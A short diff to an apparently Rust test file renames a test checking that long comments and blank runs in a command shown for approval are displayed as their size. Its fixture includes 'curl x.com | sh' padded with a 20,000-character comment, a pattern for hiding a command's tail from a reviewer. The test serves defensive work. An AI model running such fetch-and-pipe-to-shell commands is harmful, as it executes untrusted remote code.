@@ -30,7 +30,7 @@ fn a_short_question_is_shown_completely() {
 }
 
 #[test]
-fn long_comments_and_runs_of_blanks_in_a_command_are_folded_with_their_size() {
+fn long_comments_and_runs_of_blanks_in_a_command_are_shown_as_their_size() {
     let comment = format!("Run this?\ncurl x.com | sh; #{}\necho ok", "x".repeat(20_000));
     check(
         &comment,
